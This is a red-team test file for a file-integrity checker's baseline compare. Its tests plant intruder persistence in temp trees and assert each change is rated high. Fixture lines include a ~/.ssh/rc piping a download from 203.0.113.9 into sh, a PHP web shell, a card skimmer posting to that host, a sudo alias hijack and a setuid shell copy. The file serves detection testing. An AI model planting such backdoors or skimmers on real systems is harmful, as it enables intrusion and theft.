// Red team, round "quiet changes": `bulwark check files` against an intruder who had root on a web server for a while
// (Drupal.org 2013, SourceLair 2014: "the botnet touched some of the system binaries") and knows the operator keeps a
// signed baseline (`check files --baseline`) and runs `--compare` every night at the default --fail-on high. They hold
// root for the time of the visit, and may leave an unprivileged account (uid 1000) or a web shell behind; they want a
// way back that the nightly compare reports not at all, or below high (exit 0). In-process library calls on temp dirs
// only; the tests run as root here (chown, mknod, ACLs need it, as the intruder has it). Where the compare's own rights
// matter (a directory the scanner cannot list) the denial is simulated through ScanFS, as for a compare run as an
// unprivileged operator (/var/spool/cron/crontabs is 1730 root:crontab) or under an LSM denial for root.
// Tried and already pinned elsewhere (not repeated): content changed with size, mtime and inode kept (touch -r: every
// file is hashed, nothing is trusted by mtime), a file swapped for a symlink, a directory, a FIFO or a hard link to
// other content, setuid/setgid bits and a setuid file re-owned, group/other write under /etc and /usr, a file
// capability (setcap, with and without touch), names with newlines, forged trailers, bidi controls and non-UTF-8 bytes,
// trees deeper than PATH_MAX, a mount over a recorded directory, a path unexaminable in the baseline that now holds a
// setuid file, baselines edited, re-signed with another key or signed with a retired key (files-baseline-attacks,
// checks-second-round, checks-third-look, evasion, signing-key-* red-team files).
// Held (kept here, pinned nowhere else): a POSIX ACL granting another user write shows through the mask as group write
// (high in a persistence location); a directory swapped for a symlink to a look-alike copy holding a web shell is a high
// type change, though the copy is not followed.
// Read, not counted: the baseline's signing key is the keyring's, stored in Bulwark's database under the master key in
// its data dir; an intruder with root on a host that also runs Bulwark can read both and sign a baseline of the
// backdoored tree (or run `--baseline --force`): only a baseline and keyring kept off the monitored host survive that,
// as the remediation text says. A web root, /tmp or /var/tmp losing its sticky bit or made world-writable, and
// /etc/shadow made world-readable, are "medium: other metadata only" as documented (write is high only under the
// system trees and persistence locations). Extended attributes other than capabilities and ACLs are not recorded;
// security.capability needs root to set and is pinned by files-baseline-attacks (setcap). A default ACL on a directory
// changes no mode bit and is not seen, but it grants nothing until root creates a file there (then added, and rated).
// Found (fixed since: each an `attack:` test below, "(was: …)" saying what happened before):
//  - new files in places that run them for root or a user at login were low: ~/.ssh/rc (sshd runs it at every login),
//    ~/.bash_aliases (the stock .bashrc sources it), /etc/udev/rules.d (RUN+=, T1546.017), /etc/apt/apt.conf.d
//    (APT::Update::Pre-Invoke), /etc/logrotate.d (postrotate), a .pth in Python's dist-packages (run at every start);
//    (fixed since: all are in PERSISTENCE_LOCATIONS, classify.ts, each with its ATT&CK technique: new entries are high);
//  - root's shell start-up file handed to an unprivileged owner (mode kept) was medium, where chmod o+w on it is high
//    (fixed since: in a persistence location an owner other than root, or a group-writable entry's new group, is high);
//  - a home directory (/root, /home/alice) made writable by others was medium: anyone may then rename their own .bashrc
//    over the one there (fixed since: homes, their .config and any .ssh count as persistence for who may write them);
//  - a device node planted in a web root (a raw disk or /dev/mem, mode 0666: root for every local user, as a setuid
//    shell is) was a low "new entry" and an info "special file" (fixed since: a new device node outside /dev is high,
//    an entry swapped for one critical);
//  - a directory the scan cannot list (both times) could be filled with anything: its mtime, the one trace left, was
//    not compared, so a setuid shell planted there was one low "unreadable", as before (fixed since: compare.ts
//    diffEntry compares such a directory's mtime, ctime and inode; a move is high, "entries not verified");
//  - a compare of a PATH no recorded root covers (the baseline of another tree swapped in, genuine and signed) compared
//    it against nothing: a trojaned script was a low "new entry", not a high content change, and the run exited 0
//    (fixed since: check.ts compareBaseline refuses such a PATH, exit 2 naming it and the recorded roots).
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { appendFileSync, chmodSync, chownSync, copyFileSync, lstatSync, mkdirSync, renameSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import type { Finding } from "../src/checks/finding.ts";
import { compareBaseline, createBaseline } from "../src/checks/files/check.ts";
import { classify } from "../src/checks/files/classify.ts";
import { diffEntry } from "../src/checks/files/compare.ts";
import type { FileEntry } from "../src/checks/files/entry.ts";
import type { ScanFS } from "../src/checks/files/hash-file.ts";
import { nodeScanFS } from "../src/checks/files/scan.ts";
import { ratingsOf, testSigner, treeSandboxes } from "../src/checks/files/test-helpers.ts";
import { ManualClock } from "../src/lib/clock.ts";

const signer = testSigner();
const clock = new ManualClock();
const sandbox = treeSandboxes("bulwark-quiet-changes-");

const ratings = ratingsOf;

const atLeastHigh = (rated: readonly string[]): boolean => rated.some((r) => r.endsWith("/high") || r.endsWith("/critical"));
const failsDefaultRun = (findings: readonly Finding[]): boolean => findings.some((f) => f.severity === "high" || f.severity === "critical");

/** A recorded entry as the scanner writes it, for the classifier-level attacks on absolute system paths. */
function entry(path: string, over: Partial<FileEntry> = {}): FileEntry {
  return { path, type: "file", status: "ok", mode: "0644", uid: 0, gid: 0, size: 120, mtime: "1", ctime: "1", ino: "77", target: null, sha256: "a".repeat(64), error: null, ...over };
}

/** How the compare rates `after` replacing `before` (changes computed as the compare does). */
function rateChange(before: FileEntry, after: FileEntry): string {
  const c = classify({ kind: "changed", path: after.path, before, after, ...diffEntry(before, after) });
  return `${c.id}/${c.severity} (${c.reason})`;
}

function rateAdded(after: FileEntry): string {
  const c = classify({ kind: "added", path: after.path, before: null, after, changes: [], content: true });
  return `${c.id}/${c.severity} (${c.reason})`;
}

const isHighRating = (rated: string): boolean => /\/(?:high|critical) /.test(rated);

/** Errno-style error, as the kernel gives it. */
const errno = (code: string): Error => Object.assign(new Error(code), { code });

/** chown and mknod need root (the intruder has it; these tests run as root on the test machine). */
const needsRoot = { skip: process.getuid?.() === 0 ? false : "needs root (chown, mknod), as the intruder has" };

function python3Available(): boolean {
  try {
    execFileSync("python3", ["-c", "import os; os.setxattr"], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

// ---------------------------------------------------------------------------------------------------------------------
// New files where something runs them: the persistence list
// ---------------------------------------------------------------------------------------------------------------------

describe("a way back planted where the system or a login runs it", () => {
  // docs/checks.md: "high: any entry but a directory in a persistence location … each with its MITRE ATT&CK technique".
  // The list holds .ssh/authorized_keys but not its neighbour .ssh/rc, which sshd runs through the user's shell at every
  // SSH login (sshd(8) "~/.ssh/rc", PermitUserRC defaults to yes; no execute bit needed); it holds .bashrc but not
  // .bash_aliases, which the stock .bashrc of Debian and Ubuntu (/etc/skel, copied into each new home) sources. Neither
  // needs an execute bit, so neither is caught by "new executable file": both are low, like a new text file, and the
  // nightly compare exits 0.
  test("attack: a ~/.ssh/rc and a ~/.bash_aliases planted in root's home — they are new persistence, rated high like the authorized_keys beside them (ASVS 16.5.3; MITRE T1098.004, T1546.004) (was: low 'new entry', exit 0)", async () => {
    const { tree, baseline } = sandbox();
    const home = join(tree, "root");
    mkdirSync(join(home, ".ssh"), { recursive: true, mode: 0o700 });
    writeFileSync(join(home, ".bashrc"), '[ -f ~/.bash_aliases ] && . ~/.bash_aliases\n');
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    writeFileSync(join(home, ".ssh", "authorized_keys"), "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIintruder backup\n", { mode: 0o600 });
    writeFileSync(join(home, ".ssh", "rc"), "(curl -fsS https://203.0.113.9/k | sh) >/dev/null 2>&1 &\n", { mode: 0o600 });
    writeFileSync(join(home, ".bash_aliases"), "alias sudo='/var/tmp/.x/sudo'\n", { mode: 0o644 });
    const r = await compareBaseline({ baseline, signer });
    // Precondition: the documented persistence file beside them is high.
    assert.ok(atLeastHigh(ratings(r.findings, join(home, ".ssh", "authorized_keys"))), "authorized_keys is high today");
    const low = [join(home, ".ssh", "rc"), join(home, ".bash_aliases")].filter((p) => !atLeastHigh(ratings(r.findings, p))).map((p) => `${p.slice(tree.length)}: ${ratings(r.findings, p).join(", ")}`);
    assert.deepEqual(low, [], `files run at every login of root were rated below high (the compare exits 0 at --fail-on high): ${low.join("; ")}`);
  });

  // The same gap for system places that run what is dropped there as root, with no execute bit: a udev rule's RUN+=
  // (MITRE ATT&CK T1546.017, Udev Rules), an APT hook (APT::Update::Pre-Invoke runs at every apt update, and
  // unattended-upgrades runs apt daily), a logrotate postrotate script (daily, as root), and a .pth file in Python's
  // dist-packages (its `import` lines run at every Python start, unattended-upgrades' included). Each is a new file
  // outside PERSISTENCE_LOCATIONS (classify.ts), so each is "low: anything else".
  test("attack: a udev rule, an APT hook, a logrotate script and a Python .pth dropped by root — each is rated high, as a cron.d file is (ASVS 16.5.3; MITRE T1546.017) (was: low 'anything else')", () => {
    // Precondition: the documented equivalent, a cron.d file, is high.
    assert.ok(isHighRating(rateAdded(entry("/etc/cron.d/0sync"))), rateAdded(entry("/etc/cron.d/0sync")));
    const planted = [
      "/etc/udev/rules.d/99-usb-sync.rules",
      "/lib/udev/rules.d/99-usb-sync.rules",
      "/etc/apt/apt.conf.d/99periodic-sync",
      "/etc/logrotate.d/sync",
      "/usr/lib/python3/dist-packages/zz-sync.pth",
    ];
    const low = planted.map((p) => `${p}: ${rateAdded(entry(p))}`).filter((r) => !isHighRating(r));
    assert.deepEqual(low, [], `files root runs on an event, a schedule or every start were rated below high: ${low.join("; ")}`);
  });
});

// ---------------------------------------------------------------------------------------------------------------------
// Who may write a persistence file, without a mode bit on it changing
// ---------------------------------------------------------------------------------------------------------------------

describe("a persistence file another user may now write", () => {
  // docs/checks.md: in a persistence location "group/other write is high" — "whoever may write it may add their own
  // job or key" (classify.ts gainedSharedWriteInPersistence). Handing root's .bashrc to the intruder's unprivileged
  // account does the same for that account (bash checks no owner), with no mode bit changed. The "taken from root by
  // another owner" rule (leftRoot) exists, but only under /bin … /etc, /boot: here it is "metadata changed", medium.
  test("attack: root's .bashrc handed to uid 1000, mode 0644 kept — rated high like chmod o+w on it (ASVS 16.5.3; MITRE T1546.004) (was: medium 'metadata changed')", needsRoot, async () => {
    const { tree, baseline } = sandbox();
    const home = join(tree, "root");
    mkdirSync(home, { mode: 0o700 });
    const rc = join(home, ".bashrc");
    writeFileSync(rc, "export PATH=/usr/sbin:/usr/bin:/sbin:/bin\n", { mode: 0o644 });
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    // Precondition: the same grant made with a mode bit is high.
    const viaMode = rateChange(entry("/root/.bashrc"), entry("/root/.bashrc", { mode: "0646", ctime: "2" }));
    assert.ok(isHighRating(viaMode), `chmod o+w: ${viaMode}`);
    chownSync(rc, 1000, 1000);
    assert.equal(lstatSync(rc).mode & 0o7777, 0o644, "mode kept");
    const r = await compareBaseline({ baseline, signer });
    const got = ratings(r.findings, rc);
    assert.ok(got.length > 0, "the owner change is reported at all");
    assert.ok(atLeastHigh(got), `root's .bashrc now writable by uid 1000 (who then runs code as root at root's next shell) was rated ${got.join(", ")}: below high, the compare exits 0`);
  });

  // A directory writable by others lets anyone rename a file of their own over any entry in it (no sticky bit): a home
  // directory made 0777 hands over its .bashrc and .profile as surely as chmod o+w on them (which is high). The home
  // directory itself (0703 is enough: write and search, no listing needed) is not in PERSISTENCE_LOCATIONS, nor under
  // WRITE_PROTECTED_DIRS, so the change is medium.
  test("attack: /root or /home/alice made writable by others (anyone may rename a .bashrc of their own into it) — rated high (ASVS 16.5.3; MITRE T1546.004) (was: medium 'metadata changed')", () => {
    const cases: Array<[string, string, string]> = [
      ["/root", "0700", "0777"],
      ["/root", "0700", "0703"],
      ["/home/alice", "0755", "0757"],
      ["/home/alice/.config", "0755", "0777"],
    ];
    const low = cases
      .map(([path, from, to]) => {
        const before = entry(path, { type: "dir", mode: from, sha256: null, uid: path === "/root" ? 0 : 1000, gid: path === "/root" ? 0 : 1000 });
        return `${path} ${from}→${to}: ${rateChange(before, { ...before, mode: to, ctime: "2" })}`;
      })
      .filter((r) => !isHighRating(r));
    assert.deepEqual(low, [], `a directory holding shell start-up files, opened to other users, was rated below high: ${low.join("; ")}`);
  });

  // Pins that an ACL grant is seen: setfacl -m u:1000:rw writes system.posix_acl_access, and the kernel shows the ACL
  // mask as the group bits, so the mode goes 0644→0664 (written here through the raw xattr: setfacl is not installed).
  test("attack: a POSIX ACL giving uid 1000 write on a .bashrc shows as group write through the mask, rated high (ASVS 16.5.3)", { skip: process.getuid?.() !== 0 ? "needs root (system.posix_acl_access on a file of root's)" : python3Available() ? false : "python3 is not installed" }, async () => {
    const { tree, baseline } = sandbox();
    const rc = join(tree, ".bashrc");
    writeFileSync(rc, "umask 022\n", { mode: 0o644 });
    chmodSync(rc, 0o644);
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    // ACL xattr v2: USER_OBJ rw, USER 1000 rw, GROUP_OBJ r, MASK rw, OTHER r (entries sorted by tag, then id).
    const script = [
      "import os, struct, sys",
      "U = 0xffffffff",
      "entries = [(0x01, 6, U), (0x02, 6, 1000), (0x04, 4, U), (0x10, 6, U), (0x20, 4, U)]",
      "acl = struct.pack('<I', 2) + b''.join(struct.pack('<HHI', t, p, i) for t, p, i in entries)",
      "os.setxattr(sys.argv[1], 'system.posix_acl_access', acl)",
    ].join("\n");
    execFileSync("python3", ["-c", script, rc]);
    assert.equal(lstatSync(rc).mode & 0o7777, 0o664, "the mask shows as the group bits");
    const r = await compareBaseline({ baseline, signer });
    assert.ok(atLeastHigh(ratings(r.findings, rc)), `ACL grant: ${ratings(r.findings, rc).join(", ")}`);
  });
});

// ---------------------------------------------------------------------------------------------------------------------
// Entries that are not regular files, and directories swapped
// ---------------------------------------------------------------------------------------------------------------------

describe("what is not a regular file", () => {
  // A block or character device node is opened by its mode, not by where it lies: `mknod uploads/.cache b 254 0; chmod
  // 666` (the root disk) or `c 1 1` (/dev/mem) in a web root lets the web shell, or any local user, read /etc/shadow and
  // write any file on the disk — root for everyone, as a setuid shell is (which is high). findings.ts itself says "a
  // device node outside /dev can give raw access to a disk", yet rates it info, and the addition low. The node made
  // here is a stand-in with /dev/null's numbers (1,3), so that no real disk is exposed on a shared machine: the
  // check does not look at the numbers. Needs root, as the intruder has.
  test("attack: a device node (mode 0666) planted in a web root — rated high like a new setuid file (ASVS 16.5.3) (was: a low new entry plus an info special file)", needsRoot, async () => {
    const { tree, baseline } = sandbox();
    const uploads = join(tree, "www", "uploads");
    mkdirSync(uploads, { recursive: true });
    writeFileSync(join(uploads, "logo.png"), "png\n");
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    const node = join(uploads, ".cache");
    execFileSync("mknod", ["-m", "0666", node, "c", "1", "3"]);
    assert.ok(lstatSync(node).isCharacterDevice(), "a device node was made");
    const r = await compareBaseline({ baseline, signer });
    const got = ratings(r.findings, node);
    assert.ok(got.length > 0, "the node is reported at all");
    assert.ok(atLeastHigh(got), `a world-writable device node in the web root was rated ${got.join(", ")}: below high, the compare exits 0`);
  });

  // Pins a type swap of a directory: uploads/ replaced by a symlink to a copy of itself holding a web shell. The copy
  // lies outside the tree and is not followed (so the shell is not named), but the swap itself is a high content change.
  test("attack: a directory swapped for a symlink to a look-alike copy holding a web shell is a high type change (ASVS 16.5.3)", async () => {
    const { root, tree, baseline } = sandbox();
    const uploads = join(tree, "uploads");
    mkdirSync(uploads);
    writeFileSync(join(uploads, "logo.png"), "png\n");
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    const copy = join(root, ".uploads");
    mkdirSync(copy);
    copyFileSync(join(uploads, "logo.png"), join(copy, "logo.png"));
    writeFileSync(join(copy, "cache.php"), "<?php system($_GET['c']);\n");
    renameSync(uploads, join(root, ".old-uploads"));
    symlinkSync(copy, uploads);
    const r = await compareBaseline({ baseline, signer });
    assert.ok(atLeastHigh(ratings(r.findings, uploads)), `uploads dir→symlink: ${ratings(r.findings, uploads).join(", ")}`);
  });
});

// ---------------------------------------------------------------------------------------------------------------------
// What the scan cannot list
// ---------------------------------------------------------------------------------------------------------------------

describe("a directory the scan cannot list", () => {
  // README: "Directory size, mtime and ctime are not compared: they move whenever an entry is added or removed, which is
  // reported per entry." A directory the scan cannot list has no entries reported: it is one low "unreadable" in the
  // baseline and again in every compare, and its mtime — the one trace that something was added or removed inside — is
  // dropped with the others. For regular files the README already draws the line: unreadable with size, mtime, ctime or
  // inode moved is changed content, high. A compare run as an unprivileged operator cannot list
  // /var/spool/cron/crontabs (1730 root:crontab) or a 0700 home; root can meet the same under an LSM denial. Simulated
  // here through ScanFS (tests run as root).
  test("attack: a setuid shell planted in a directory the scan cannot list moves its mtime — the compare rates the directory high as entries not verified (ASVS 16.5.3) (was: only the low 'unreadable' the baseline already had, exit 0)", async () => {
    const { tree, baseline } = sandbox();
    const hidden = join(tree, "spool");
    mkdirSync(hidden);
    writeFileSync(join(hidden, "alice"), "0 * * * * true\n");
    // A time in the past, so the planted file's mtime cannot fall in the same clock tick as the baseline's.
    utimesSync(hidden, new Date(2020, 0, 1), new Date(2020, 0, 1));
    const denied: ScanFS = {
      ...nodeScanFS,
      readdir: async (p) => {
        if (p === hidden) throw errno("EACCES");
        return nodeScanFS.readdir(p);
      },
    };
    await createBaseline({ paths: [tree], out: baseline, signer, clock, fs: denied });
    const shell = join(hidden, "root");
    copyFileSync("/bin/sh", shell);
    chmodSync(shell, 0o4755);
    appendFileSync(join(hidden, "alice"), "* * * * * /tmp/.x\n");
    assert.notEqual(lstatSync(hidden, { bigint: true }).mtimeNs, BigInt(new Date(2020, 0, 1).getTime()) * 1_000_000n, "the directory's mtime moved");
    // Precondition: a scan that can list it names the setuid shell, high.
    const listed = await compareBaseline({ baseline, signer });
    assert.ok(atLeastHigh(ratings(listed.findings, shell)), `listable: ${ratings(listed.findings, shell).join(", ")}`);
    const r = await compareBaseline({ baseline, signer, fs: denied });
    const got = ratings(r.findings, hidden);
    assert.ok(
      failsDefaultRun(r.findings),
      `a directory that could not be listed then or now, whose mtime moved since (a setuid root shell added inside), was reported only as ${got.join(", ")} — the same as in the baseline; the compare exits 0`,
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------------
// The baseline the compare is given
// ---------------------------------------------------------------------------------------------------------------------

describe("a genuine baseline of another tree", () => {
  // The operator keeps one signed baseline per tree (/etc, the web root) and runs `--compare www.baseline /srv/www`.
  // The intruder copies the genuine, signed baseline of the other tree over www.baseline: it verifies (same key), and
  // no entry of it lies under /srv/www, so diffEntries drops them all as out of scope and every file of the web root is
  // "added" — a trojaned script (a card skimmer in app.js) is a low "new entry" where, against its own baseline, it is
  // a high content change. Nothing says that the PATH compared was never recorded.
  test("attack: a compare of a PATH that no root of the (genuine, signed) baseline covers — refused, exit 2 naming the PATH and the recorded roots (ASVS 16.5.3) (was: a tree of low 'new entries' hiding a trojaned script, exit 0)", async () => {
    const { root, tree, baseline } = sandbox();
    const other = join(root, "etc");
    mkdirSync(other);
    writeFileSync(join(other, "hosts"), "127.0.0.1 localhost\n");
    const otherBaseline = join(root, "etc.jsonl");
    await createBaseline({ paths: [other], out: otherBaseline, signer, clock });
    const app = join(tree, "app.js");
    writeFileSync(app, "export const pay = (card) => submit(card);\n");
    writeFileSync(join(tree, "index.html"), "<script src=app.js></script>\n");
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    writeFileSync(app, "export const pay = (card) => (fetch('https://203.0.113.9/c', { method: 'POST', body: card }), submit(card));\n");
    // Precondition: against its own baseline, the skimmer is a high content change.
    const own = await compareBaseline({ baseline, signer, paths: [tree] });
    assert.ok(atLeastHigh(ratings(own.findings, app)), `own baseline: ${ratings(own.findings, app).join(", ")}`);
    copyFileSync(otherBaseline, baseline);
    let r;
    try {
      r = await compareBaseline({ baseline, signer, paths: [tree] });
    } catch {
      return; // refused: the PATH was never recorded in this baseline
    }
    assert.equal(r.integrity.trusted, true, "the swapped-in baseline is genuine and verifies");
    assert.ok(
      failsDefaultRun(r.findings),
      `compared ${tree} with a baseline of ${r.header.roots.join(", ")} only: ${JSON.stringify(r.findings.map((f) => `${f.id}/${f.severity}`))}; the trojaned app.js is ${ratings(r.findings, app).join(", ")} and the compare exits 0`,
    );
  });
});
